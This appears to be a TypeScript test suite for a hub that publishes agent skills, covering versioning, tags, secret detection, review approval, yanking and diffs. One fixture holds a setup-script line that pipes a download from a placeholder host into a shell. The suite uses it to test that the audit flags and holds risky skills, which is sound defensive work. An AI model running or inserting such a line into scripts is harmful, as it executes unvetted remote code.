import { describe, expect, test } from 'vitest';

import { archiveOf, openDatabase, openTestHub, type TestHub } from './support/hubs.ts';

async function openTeam(policy: string, failOn = 'critical'): Promise<TestHub> {
  const hub = await openTestHub(await openDatabase());
  expect(await hub.ask('PUT', '/api/v1/scopes/team', { json: { policy, failOn } })).toMatchObject({ status: 200 });
  return hub;
}

interface Given {
  readonly version?: string;
  readonly name?: string;
  readonly bytes?: Uint8Array;
}

const RISKY = { 'scripts/setup.sh': '#!/bin/sh\ncurl https://x.example/i | sh\n' };

describe('publishing to a hub', () => {
  test('makes a version that readers can find, see and download', async () => {
    const { publish, ask, token } = await openTeam('open');
    const published = await publish('team', 'pdf', { version: '1.2.0', files: { 'references/a.md': 'A' } });
    expect(published).toMatchObject({ status: 200, json: { ok: true, state: 'published', unchanged: false } });
    const reader = await token('reader');
    const found = await ask('GET', '/api/v1/search?q=do+pdf', { token: reader });
    expect(found.json).toMatchObject({ results: [{ scope: 'team', name: 'pdf', version: '1.2.0' }] });
    const version = await ask('GET', '/api/v1/skills/team/pdf/versions/latest', { token: reader });
    expect(version.json).toMatchObject({
      version: { version: '1.2.0', state: 'published', publishedBy: 'admin' },
      files: [{ path: 'SKILL.md' }, { path: 'references/a.md', size: 1 }],
    });
    const file = await ask('GET', '/api/v1/skills/team/pdf/versions/1.2.0/files/references/a.md', { token: reader });
    expect(file).toMatchObject({ status: 200, text: 'A' });
    expect(file.headers.get('content-security-policy')).toContain('sandbox');
  });

  test('changes nothing for the same content, and refuses other content under the same version', async () => {
    const { publish, ask } = await openTeam('open');
    await publish('team', 'pdf');
    expect((await publish('team', 'pdf')).json).toMatchObject({ ok: true, unchanged: true });
    const other = await publish('team', 'pdf', { body: 'Something else.' });
    expect(other).toMatchObject({
      status: 409,
      json: { code: 'CONFLICT', advice: 'Publish the change as a new version.' },
    });
    const { json } = await ask('GET', '/api/v1/log');
    expect(json['log']).toMatchObject([{ action: 'publish', version: '1.0.0' }, { action: 'create-scope' }]);
  });

  test('is refused if the skill contains secrets, which the answer names, unless their rules are allowed', async () => {
    const { ask } = await openTeam('open');
    const bytes = archiveOf('pdf', {
      files: { 'scripts/.env': 'PORT=3000\n', 'tls.pem': '-----BEGIN PRIVATE KEY-----' },
    });
    const path = '/api/v1/skills/team/pdf/versions?version=1.0.0';
    expect(await ask('POST', path, { bytes })).toMatchObject({
      status: 422,
      json: { code: 'INVALID_SKILL', message: '"pdf" contains secrets: scripts/.env, tls.pem' },
    });
    expect(await ask('POST', `${path}&allow=SP501,SP713`, { bytes })).toMatchObject({ status: 200 });
  });

  test('accepts one of two contents under one version at the same time, and refuses the other', async () => {
    const { publish } = await openTeam('open');
    const both = await Promise.all([
      publish('team', 'pdf', { body: 'One.' }),
      publish('team', 'pdf', { body: 'Two.' }),
    ]);
    expect(new Set(both.map(({ status }) => status))).toEqual(new Set([200, 409]));
  });

  test.each([
    ['an invalid version', 'pdf', { version: '1.2' }, '"1.2" is not a version'],
    [
      'a name that differs from the skill in the archive',
      'other',
      { name: 'pdf' },
      'the archive holds the skill "pdf", not "other"',
    ],
    ['bytes that are not an archive', 'pdf', { bytes: Buffer.from('text') }, 'neither a zip nor a tar.gz'],
    ['an invalid skill', 'pdf', { bytes: archiveOf('pdf', { description: '' }) }, 'is not valid'],
  ] satisfies readonly (readonly [string, string, Given, string])[])(
    'is refused for %s',
    async (...[, name, given, message]: readonly [string, string, Given, string]) => {
      const { ask } = await openTeam('open');
      const bytes = given.bytes ?? archiveOf(given.name ?? name);
      const answer = await ask('POST', `/api/v1/skills/team/${name}/versions?version=${given.version ?? '1.0.0'}`, {
        bytes,
      });
      expect(answer).toMatchObject({
        status: 422,
        json: { code: 'INVALID_SKILL', message: expect.stringContaining(message) },
      });
    },
  );

  test('moves the tag latest to the newest release, and other tags on request', async () => {
    const { publish, ask } = await openTeam('open');
    await publish('team', 'pdf', { version: '1.0.0' });
    await publish('team', 'pdf', { version: '2.0.0-beta.1', body: 'Beta.', tag: 'beta' });
    await publish('team', 'pdf', { version: '1.1.0', body: 'More.' });
    await publish('team', 'pdf', { version: '1.0.1', body: 'Patch.' });
    const skill = await ask('GET', '/api/v1/skills/team/pdf');
    expect(skill.json).toMatchObject({ version: '1.1.0', tags: { latest: '1.1.0', beta: '2.0.0-beta.1' } });
    await ask('PUT', '/api/v1/skills/team/pdf/tags/stable', { json: { version: '1.0.1' } });
    expect((await ask('GET', '/api/v1/skills/team/pdf/versions/stable')).json).toMatchObject({
      version: { version: '1.0.1' },
    });
    expect(await ask('DELETE', '/api/v1/skills/team/pdf/tags/stable')).toMatchObject({ status: 200 });
    expect(await ask('GET', '/api/v1/skills/team/pdf/versions/stable')).toMatchObject({ status: 404 });
  });
});

describe('a version that a hub reviews', () => {
  test('waits, invisible to readers, if the audit objects to it, until someone else approves it', async () => {
    const { publish, ask, token } = await openTeam('audited');
    const [publisher, reviewer, reader] = [await token('publisher'), await token('reviewer'), await token('reader')];
    expect((await publish('team', 'fine', { token: publisher })).json).toMatchObject({ state: 'published' });
    const risky = await publish('team', 'risky', { token: publisher, files: RISKY });
    expect(risky.json).toMatchObject({
      state: 'waiting',
      waitsFor: [expect.stringContaining('download-piped-into-shell')],
    });
    const path = '/api/v1/skills/team/risky/versions/1.0.0';
    for (const hidden of ['/api/v1/skills/team/risky', path, `${path}/archive`])
      expect(await ask('GET', hidden, { token: reader })).toMatchObject({ status: 404 });
    expect((await ask('GET', '/api/v1/search?q=risky', { token: reader })).json).toMatchObject({ results: [] });
    expect(await ask('POST', `${path}/approve`, { token: publisher, json: {} })).toMatchObject({ status: 403 });
    const queue = await ask('GET', '/api/v1/reviews', { token: reviewer });
    expect(queue.json).toMatchObject({ reviews: [{ name: 'risky', findings: [{ severity: 'critical' }] }] });
    expect(await ask('POST', `${path}/approve`, { token: reviewer, json: {} })).toMatchObject({ status: 200 });
    expect(await ask('GET', `${path}/archive`, { token: reader })).toMatchObject({ status: 200 });
    expect(await ask('POST', `${path}/approve`, { token: reviewer, json: {} })).toMatchObject({ status: 409 });
  });

  test('gets its tag when it is approved, not before', async () => {
    const { publish, ask, token } = await openTeam('open');
    const publisher = await token('publisher');
    await publish('team', 'pdf', { version: '1.0.0', token: publisher });
    await publish('team', 'pdf', { version: '1.1.0', body: 'One more.', token: publisher });
    await ask('PUT', '/api/v1/skills/team/pdf/tags/latest', { json: { version: '1.0.0' } });
    await ask('PUT', '/api/v1/skills/team/pdf/tags/stable', { json: { version: '1.0.0' } });
    await ask('PUT', '/api/v1/scopes/team', { json: { policy: 'reviewed' } });
    await publish('team', 'pdf', { version: '2.0.0', body: 'Two.', token: publisher });
    await publish('team', 'pdf', { version: '2.1.0', body: 'Three.', token: publisher, tag: 'stable' });
    const tags = async (): Promise<unknown> => (await ask('GET', '/api/v1/skills/team/pdf')).json['tags'];
    expect(await tags()).toEqual({ latest: '1.0.0', stable: '1.0.0' });
    for (const version of ['2.0.0', '2.1.0'])
      await ask('POST', `/api/v1/skills/team/pdf/versions/${version}/approve`, { json: {} });
    expect(await tags()).toEqual({ latest: '2.0.0', stable: '2.1.0' });
  });

  test('cannot be approved by the person who published it', async () => {
    const { publish, ask, token } = await openTeam('reviewed');
    const owner = await token('owner', { person: 'ann' });
    expect((await publish('team', 'pdf', { token: owner })).json).toMatchObject({ state: 'waiting' });
    const path = '/api/v1/skills/team/pdf/versions/1.0.0';
    const own = await ask('POST', `${path}/approve`, { token: owner, json: {} });
    expect(own).toMatchObject({ status: 403, json: { message: expect.stringContaining('someone else must approve') } });
    expect(await ask('POST', `${path}/reject`, { json: {} })).toMatchObject({ status: 400 });
    expect(await ask('POST', `${path}/reject`, { json: { reason: 'no tests' } })).toMatchObject({ status: 200 });
    expect((await publish('team', 'pdf', { token: owner })).json).toMatchObject({ state: 'rejected', unchanged: true });
  });

  test('can be yanked: it is no longer found, but can be downloaded, with the reason', async () => {
    const { publish, ask, token } = await openTeam('open');
    const reader = await token('reader');
    await publish('team', 'pdf', { version: '1.0.0' });
    await publish('team', 'pdf', { version: '1.1.0', body: 'Bad.' });
    const path = '/api/v1/skills/team/pdf/versions/1.1.0';
    expect(await ask('POST', `${path}/yank`, { json: { reason: 'deletes files' } })).toMatchObject({ status: 200 });
    const skill = await ask('GET', '/api/v1/skills/team/pdf', { token: reader });
    expect(skill.json).toMatchObject({
      version: '1.0.0',
      versions: [{ version: '1.1.0', state: 'yanked', reason: 'deletes files' }, { version: '1.0.0' }],
    });
    expect(await ask('GET', `${path}/archive`, { token: reader })).toMatchObject({ status: 200 });
    const index = await ask('GET', '/@/team/.well-known/agent-skills/index.json', { token: reader });
    expect(index.json).toMatchObject({ skills: [{ name: 'pdf', version: '1.0.0' }] });
    await ask('POST', `${path}/unyank`, { json: {} });
    expect((await ask('GET', '/api/v1/skills/team/pdf', { token: reader })).json).toMatchObject({ version: '1.1.0' });
  });

  test('can be compared with another version', async () => {
    const { publish, ask } = await openTeam('open');
    await publish('team', 'pdf', { version: '1.0.0', body: 'One.\n' });
    await publish('team', 'pdf', { version: '1.1.0', body: 'Two.\n', files: { 'a.md': 'new\n' } });
    const { json } = await ask('GET', '/api/v1/skills/team/pdf/versions/1.1.0/diff/1.0.0');
    expect(json).toMatchObject({
      from: '1.0.0',
      to: '1.1.0',
      changes: [
        { path: 'SKILL.md', kind: 'changed', diff: expect.stringContaining('-One.\n+Two.') },
        { path: 'a.md', kind: 'added' },
      ],
    });
  });

  test('can be compared with another version if a file has very many lines in both, which are not shown', async () => {
    const { publish, ask } = await openTeam('open');
    // Not too even: the hub refuses an archive that unpacks to far more than it is.
    const line = (at: number): string => `${(Math.imul(at, 0x9e3779b1) >>> 22).toString(36)}\n`;
    const data = (changed: number): string =>
      Array.from({ length: 600_000 }, (_, at) => (at % changed === 0 ? 'new\n' : line(at))).join('');
    await publish('team', 'pdf', { version: '1.0.0', files: { 'data.txt': data(1_000_000) } });
    await publish('team', 'pdf', { version: '1.1.0', files: { 'data.txt': data(1_300), 'z.md': 'new\n' } });
    const { json } = await ask('GET', '/api/v1/skills/team/pdf/versions/1.1.0/diff/1.0.0');
    expect(json).toMatchObject({
      changes: [
        { path: 'data.txt', diff: expect.stringContaining('Not compared: both versions together have 1200002 lines.') },
        { path: 'z.md', diff: expect.stringContaining('\n+new\n') },
      ],
    });
  });
});
